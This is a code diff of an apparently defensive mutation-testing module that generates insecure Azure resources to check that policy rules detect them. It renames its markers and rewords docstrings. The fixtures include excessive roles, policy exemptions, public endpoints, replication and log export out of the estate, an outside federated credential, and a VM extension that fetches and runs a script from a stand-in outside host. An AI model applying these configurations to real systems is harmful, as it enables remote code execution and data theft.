@@ -10,7 +10,7 @@ from formats.urns import make_urn
 from policies.model import PolicyContext, Resource
 from policies.mutations.model import Addition
 from policies.mutations.table import elsewhere
-from policies.mutations.table.access import BLOB_READER, TOO_MUCH
+from policies.mutations.table.access import BLOB_READER, EXCESSIVE_ROLES
 from policies.mutations.table.guards import EXEMPTED
 from policies.mutations.table.networks import other_spokes
 
@@ -29,7 +29,7 @@ def _group(estate: PolicyContext, stack: str) -> Resource | None:
     return next(iter(_here(estate, stack, "resources:ResourceGroup")), None)
 
 
-def _made(group: Resource, type_: str, id_: str | None, inputs: Inputs, name: str = "side-door") -> Resource:
+def _made(group: Resource, type_: str, id_: str | None, inputs: Inputs, name: str = "mutant") -> Resource:
     urn = make_urn(group.stack, "sde", "", f"azure-native:{type_}", name)
     return Resource(urn=urn, type=type_, name=name, stack=group.stack, inputs=inputs, id=id_)
 
@@ -37,8 +37,7 @@ def _made(group: Resource, type_: str, id_: str | None, inputs: Inputs, name: st
 def _in_group(
     type_: str, path: str, inputs: Inputs, *, tagged: bool = True
 ) -> Callable[[PolicyContext, str], Iterator[Resource]]:
-    """Return a maker of a resource in a stack's first group, with the group's location and tags, so that nothing else
-    is wrong."""
+    """Return a maker of a resource in a stack's first group, with the group's location and tags, which are valid."""
 
     def make(estate: PolicyContext, stack: str) -> Iterator[Resource]:
         group = _group(estate, stack)
@@ -56,16 +55,16 @@ def _grant(group: Resource, name: str, role: str, scope: str, principal: str, *,
     inputs = {"roleAssignmentName": "51de0000-0000-4000-8000-000000000001", "roleDefinitionId": definition,
               "principalId": principal, "principalType": kind, "scope": scope}  # fmt: skip
     id_ = f"{scope}/providers/Microsoft.Authorization/roleAssignments/51de0000-0000-4000-8000-000000000001"
-    return _made(group, "authorization:RoleAssignment", id_, inputs, f"side-door-{name}")
+    return _made(group, "authorization:RoleAssignment", id_, inputs, f"mutant-{name}")
 
 
-def _ruling(estate: PolicyContext, stack: str) -> Iterator[Resource]:
-    """Yield an assignment of each role that is too powerful, on the stack's group, its subscription and a store."""
+def _excessive_roles(estate: PolicyContext, stack: str) -> Iterator[Resource]:
+    """Yield an assignment of each excessive role on the stack's group, its subscription and a store."""
     group = _group(estate, stack)
     if group is None:
         return
     stores = [str(r.id) for r in _here(estate, stack, "storage:StorageAccount")[:1]]
-    for role, guid in TOO_MUCH.items():
+    for role, guid in EXCESSIVE_ROLES.items():
         for index, scope in enumerate([str(group.id), "/".join(str(group.id).split("/")[:3]), *stores]):
             yield _grant(group, f"{role.lower().replace(' ', '-')}-{index}", guid, scope, elsewhere.PERSON)
 
@@ -78,8 +77,8 @@ def _to_a_person(estate: PolicyContext, stack: str) -> Iterator[Resource]:
 
 
 def _self_release(estate: PolicyContext, stack: str) -> Iterator[Resource]:
-    """Yield a role for each group of a project on every airlock stage where it has no task: who brings also releases,
-    who fetches sees unreleased data, who checks changes it, who signs in holds data."""
+    """Yield a role for each group of a project on every airlock stage where it has none: submitters could release,
+    recipients could read unreleased data, reviewers could change it, and users could read data outside of the desk."""
     group = _group(estate, stack)
     if group is None:
         return
@@ -94,8 +93,8 @@ def _self_release(estate: PolicyContext, stack: str) -> Iterator[Resource]:
                     yield _grant(group, f"stage-{number}-{role[:4]}-{principal[:8]}", role, scope, principal)
 
 
-def _of_who_signs_in(estate: PolicyContext, stack: str) -> Iterator[Resource]:
-    """Yield a right to each store of a project for those who sign in to its desk."""
+def _data_roles_of_users(estate: PolicyContext, stack: str) -> Iterator[Resource]:
+    """Yield a role on each storage account of a project for the users of its desk."""
     group = _group(estate, stack)
     if group is None:
         return
@@ -110,7 +109,7 @@ def _of_who_signs_in(estate: PolicyContext, stack: str) -> Iterator[Resource]:
 
 
 def _across(estate: PolicyContext, stack: str) -> Iterator[Resource]:
-    """Yield a role for another stack's group on a store of this one, and for this stack's group on another's."""
+    """Yield a role for another stack's group on this stack's storage, and for this stack's group on another's."""
     group = _group(estate, stack)
     mine = _groups(estate, stack)
     others = [s for s in dict.fromkeys(r.stack for r in estate.resources) if s != stack]
@@ -125,7 +124,7 @@ def _across(estate: PolicyContext, stack: str) -> Iterator[Resource]:
 
 
 def _groups(estate: PolicyContext, stack: str) -> list[str]:
-    """Return the groups of people that a stack grants the data of its stores to."""
+    """Return the groups with a role on the storage accounts of a stack."""
     return list(dict.fromkeys(
         str(g.at("principalId")) for g in _here(estate, stack, "authorization:RoleAssignment")
         if g.at("principalType") == "Group" and "/storageAccounts/" in str(g.at("scope"))
@@ -139,13 +138,13 @@ def _peered(estate: PolicyContext, stack: str) -> Iterator[Resource]:
             inputs = {
                 "resourceGroupName": network.at("resourceGroupName"),
                 "virtualNetworkName": network.at("virtualNetworkName"),
-                "virtualNetworkPeeringName": "peer-side-door", "remoteVirtualNetwork": {"id": id_},
+                "virtualNetworkPeeringName": "peer-mutant", "remoteVirtualNetwork": {"id": id_},
                 "allowVirtualNetworkAccess": True, "allowForwardedTraffic": True, "allowGatewayTransit": False,
                 "useRemoteGateways": False,
             }  # fmt: skip
             if group:
                 name = f"{network.name}-to-{words.rpartition(' ')[2]}"
-                made = f"{network.id}/virtualNetworkPeerings/peer-side-door"
+                made = f"{network.id}/virtualNetworkPeerings/peer-mutant"
                 yield _made(group, "network:VirtualNetworkPeering", made, inputs, name)
 
 
@@ -153,11 +152,11 @@ def _bare_subnet(estate: PolicyContext, stack: str) -> Iterator[Resource]:
     group = _group(estate, stack)
     for network in _here(estate, stack, "network:VirtualNetwork"):
         inputs = {"resourceGroupName": network.at("resourceGroupName"),
-                  "virtualNetworkName": network.at("virtualNetworkName"), "subnetName": "snet-side-door",
+                  "virtualNetworkName": network.at("virtualNetworkName"), "subnetName": "snet-mutant",
                   "addressPrefix": "10.65.0.64/28"}  # fmt: skip
         if group:
-            id_ = f"{network.id}/subnets/snet-side-door"
-            yield _made(group, "network:Subnet", id_, inputs, f"{network.name}-side-door")
+            id_ = f"{network.id}/subnets/snet-mutant"
+            yield _made(group, "network:Subnet", id_, inputs, f"{network.name}-mutant")
 
 
 def _below(
@@ -181,80 +180,80 @@ def _exempt(estate: PolicyContext, stack: str) -> Iterator[Resource]:
     for guard in _here(estate, stack, "authorization:PolicyAssignment"):
         if group and guard.id:
             inputs = {**EXEMPTED, "scope": guard.at("scope"), "policyAssignmentId": guard.id}
-            id_ = f"{guard.at('scope')}/providers/Microsoft.Authorization/policyExemptions/side-door"
-            yield _made(group, "authorization:PolicyExemption", id_, inputs, f"side-door-{guard.name}")
+            id_ = f"{guard.at('scope')}/providers/Microsoft.Authorization/policyExemptions/mutant"
+            yield _made(group, "authorization:PolicyExemption", id_, inputs, f"mutant-{guard.name}")
 
 
 IN_GROUP = {"resourceGroupName": "resourceGroupName"}
 STORE = {**IN_GROUP, "accountName": "accountName"}
 MACHINE = {**IN_GROUP, "vmName": "vmName", "location": "location", "tags": "tags"}
-OUT = "a way out past the firewall"
-COPY = "data could be copied to where nobody looks"
-STRANGER = "a stranger's program would run with every right"
+OUT = "egress would bypass the firewall"
+COPY = "data could be copied out of the estate"
+FOREIGN_CODE = "a program from outside of the estate would run as root"
 SCRIPT = {"fileUris": ["https://stelsewhere.blob.core.windows.net/run.sh"], "commandToExecute": "sh run.sh"}
 CUSTOM_SCRIPT = {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
-                 "vmExtensionName": "side-door", "settings": SCRIPT}  # fmt: skip
-SNAPSHOT = {"snapshotName": "snap-side-door", "networkAccessPolicy": "AllowAll",
+                 "vmExtensionName": "mutant", "settings": SCRIPT}  # fmt: skip
+SNAPSHOT = {"snapshotName": "snap-mutant", "networkAccessPolicy": "AllowAll",
             "creationData": {"createOption": "Copy", "sourceResourceId": elsewhere.DISK}}  # fmt: skip
-RULE = {"firewallRuleName": "side-door", "startIpAddress": "20.0.0.0", "endIpAddress": "20.255.255.255"}
-EXPORT_RULE = {"dataExportName": "side-door", "tableNames": ["StorageBlobLogs"],
+RULE = {"firewallRuleName": "mutant", "startIpAddress": "20.0.0.0", "endIpAddress": "20.255.255.255"}
+EXPORT_RULE = {"dataExportName": "mutant", "tableNames": ["StorageBlobLogs"],
                "destination": {"resourceId": elsewhere.STORE}, "enable": True}  # fmt: skip
-CREDENTIAL = {"federatedIdentityCredentialResourceName": "side-door", "issuer": "https://token.elsewhere.example",
-              "subject": "anybody", "audiences": ["api://AzureADTokenExchange"]}  # fmt: skip
+CREDENTIAL = {"federatedIdentityCredentialResourceName": "mutant", "issuer": "https://token.elsewhere.example",
+              "subject": "anyone", "audiences": ["api://AzureADTokenExchange"]}  # fmt: skip
 COPIES = {"objectReplicationPolicyId": "default", "sourceAccount": "mine", "destinationAccount": elsewhere.STORE}
 ADDITIONS = (
-    Addition("a role that is too much", "its holder could undo every control", _ruling),
-    Addition("a grant to one person", "it would outlive the person's place in the project", _to_a_person),
-    Addition("a grant that joins what two must do", "one person could bring data out alone", _self_release),
-    Addition("a right to data for who signs in", "data could be read past the desk", _of_who_signs_in),
-    Addition("a grant across stacks", "people of one project would see another's data", _across),
-    Addition("a peering", "networks that must not know each other could talk", _peered),
+    Addition("an excessive role", "its holder could disable every control", _excessive_roles),
+    Addition("a role for one person", "it would remain after the person leaves the project", _to_a_person),
+    Addition("a role that combines separated duties", "one person could bring data out alone", _self_release),
+    Addition("a data role for users of the desk", "data could be read outside of the desk", _data_roles_of_users),
+    Addition("a role across stacks", "members of one project could read another's data", _across),
+    Addition("a peering", "separate networks could connect", _peered),
     Addition("a bare subnet", "nothing would filter or route its traffic", _bare_subnet),
-    Addition("a public address", "something would stand on the Internet", _in_group(
-        "network:PublicIPAddress", "Microsoft.Network/publicIPAddresses/pip-side-door",
-        {"publicIpAddressName": "pip-side-door", "sku": {"name": "Standard"}, "publicIPAllocationMethod": "Static"})),
-    Addition("a NAT gateway", OUT, _in_group("network:NatGateway", "Microsoft.Network/natGateways/ng-side-door",
-                                             {"natGatewayName": "ng-side-door"})),
+    Addition("a public address", "a service would be public", _in_group(
+        "network:PublicIPAddress", "Microsoft.Network/publicIPAddresses/pip-mutant",
+        {"publicIpAddressName": "pip-mutant", "sku": {"name": "Standard"}, "publicIPAllocationMethod": "Static"})),
+    Addition("a NAT gateway", OUT, _in_group("network:NatGateway", "Microsoft.Network/natGateways/ng-mutant",
+                                             {"natGatewayName": "ng-mutant"})),
     Addition("a gateway to other networks", OUT, _in_group(
-        "network:VirtualNetworkGateway", "Microsoft.Network/virtualNetworkGateways/vng-side-door",
-        {"virtualNetworkGatewayName": "vng-side-door"})),
-    Addition("a load balancer", "something would stand on the Internet", _in_group(
-        "network:LoadBalancer", "Microsoft.Network/loadBalancers/lb-side-door", {"loadBalancerName": "lb-side-door"})),
-    Addition("a snapshot that anybody may download", COPY, _in_group(
-        "compute:Snapshot", "Microsoft.Compute/snapshots/snap-side-door", SNAPSHOT)),
-    Addition("a store with nothing set", "Azure's defaults are open", _in_group(
-        "storage:StorageAccount", "Microsoft.Storage/storageAccounts/stsidedoor",
-        {"accountName": "stsidedoor", "kind": "StorageV2", "sku": {"name": "Standard_LRS"}})),
-    Addition("a vault with nothing set", "Azure's defaults are open", _in_group(
-        "keyvault:Vault", "Microsoft.KeyVault/vaults/kv-side-door",
-        {"vaultName": "kv-side-door", "properties": {"sku": {"family": "A", "name": "standard"}}})),
-    Addition("a data factory", COPY, _in_group("datafactory:Factory", "Microsoft.DataFactory/factories/adf-side-door",
-                                               {"factoryName": "adf-side-door"})),
-    Addition("a web site", "something would stand on the Internet", _in_group(
-        "web:WebApp", "Microsoft.Web/sites/app-side-door", {"name": "app-side-door"})),
-    Addition("a database open to all", "something would stand on the Internet", _in_group(
-        "dbforpostgresql:FirewallRule", "Microsoft.DBforPostgreSQL/flexibleServers/psql/firewallRules/side-door",
+        "network:VirtualNetworkGateway", "Microsoft.Network/virtualNetworkGateways/vng-mutant",
+        {"virtualNetworkGatewayName": "vng-mutant"})),
+    Addition("a load balancer", "a service would be public", _in_group(
+        "network:LoadBalancer", "Microsoft.Network/loadBalancers/lb-mutant", {"loadBalancerName": "lb-mutant"})),
+    Addition("a downloadable snapshot", COPY, _in_group(
+        "compute:Snapshot", "Microsoft.Compute/snapshots/snap-mutant", SNAPSHOT)),
+    Addition("a storage account with defaults", "Azure's defaults allow public access", _in_group(
+        "storage:StorageAccount", "Microsoft.Storage/storageAccounts/stmutant",
+        {"accountName": "stmutant", "kind": "StorageV2", "sku": {"name": "Standard_LRS"}})),
+    Addition("a vault with defaults", "Azure's defaults allow public access", _in_group(
+        "keyvault:Vault", "Microsoft.KeyVault/vaults/kv-mutant",
+        {"vaultName": "kv-mutant", "properties": {"sku": {"family": "A", "name": "standard"}}})),
+    Addition("a data factory", COPY, _in_group("datafactory:Factory", "Microsoft.DataFactory/factories/adf-mutant",
+                                               {"factoryName": "adf-mutant"})),
+    Addition("a web site", "a service would be public", _in_group(
+        "web:WebApp", "Microsoft.Web/sites/app-mutant", {"name": "app-mutant"})),
+    Addition("a database open to all", "a service would be public", _in_group(
+        "dbforpostgresql:FirewallRule", "Microsoft.DBforPostgreSQL/flexibleServers/psql/firewallRules/mutant",
         {"serverName": "psql", **RULE}, tagged=False)),
-    Addition("a program of a stranger's", STRANGER, _below(
-        "compute:VirtualMachineExtension", "compute:VirtualMachine", "extensions/side-door", CUSTOM_SCRIPT, MACHINE)),
-    Addition("a command on a desk", STRANGER, _below(
-        "compute:VirtualMachineRunCommandByVirtualMachine", "compute:VirtualMachine", "runCommands/side-door",
-        {"runCommandName": "side-door", "source": {"script": "id"}}, MACHINE)),
-    Addition("a local user of a store", "a password, which names nobody, would open it", _below(
-        "storage:LocalUser", "storage:StorageAccount", "localUsers/side-door",
-        {"username": "side-door", "hasSshPassword": True}, STORE)),
-    Addition("copies of blobs to elsewhere", COPY, _below(
+    Addition("an extension with a foreign script", FOREIGN_CODE, _below(
+        "compute:VirtualMachineExtension", "compute:VirtualMachine", "extensions/mutant", CUSTOM_SCRIPT, MACHINE)),
+    Addition("a command on a desk", FOREIGN_CODE, _below(
+        "compute:VirtualMachineRunCommandByVirtualMachine", "compute:VirtualMachine", "runCommands/mutant",
+        {"runCommandName": "mutant", "source": {"script": "id"}}, MACHINE)),
+    Addition("a local user of a storage account", "a password, which identifies no person, would give access", _below(
+        "storage:LocalUser", "storage:StorageAccount", "localUsers/mutant",
+        {"username": "mutant", "hasSshPassword": True}, STORE)),
+    Addition("replication of blobs out of the estate", COPY, _below(
         "storage:ObjectReplicationPolicy", "storage:StorageAccount", "objectReplicationPolicies/default", COPIES,
         STORE)),
     Addition("an export of logs", COPY, _below(
-        "operationalinsights:DataExport", "operationalinsights:Workspace", "dataExports/side-door", EXPORT_RULE,
+        "operationalinsights:DataExport", "operationalinsights:Workspace", "dataExports/mutant", EXPORT_RULE,
         {**IN_GROUP, "workspaceName": "workspaceName"})),
-    Addition("somebody else's credential for an identity", "a stranger could act as the estate's own service", _below(
+    Addition("a federated credential of another issuer", "an outsider could act as the estate's service", _below(
         "managedidentity:FederatedIdentityCredential", "managedidentity:UserAssignedIdentity",
-        "federatedIdentityCredentials/side-door", CREDENTIAL, {**IN_GROUP, "resourceName": "resourceName"})),
-    Addition("an access policy of a vault", "who holds which key would be hidden", _below(
-        "keyvault:AccessPolicy", "keyvault:Vault", "accessPolicy/side-door",
+        "federatedIdentityCredentials/mutant", CREDENTIAL, {**IN_GROUP, "resourceName": "resourceName"})),
+    Addition("an access policy of a vault", "access policies do not show in role assignments", _below(
+        "keyvault:AccessPolicy", "keyvault:Vault", "accessPolicy/mutant",
         {"policy": {"objectId": elsewhere.PERSON, "permissions": {"secrets": ["get"]}}},
         {**IN_GROUP, "vaultName": "vaultName"})),
-    Addition("an exemption from a guard", "Azure would let past what it should refuse", _exempt),
+    Addition("an exemption from a guardrail", "Azure would allow forbidden deployments", _exempt),
 )  # fmt: skip
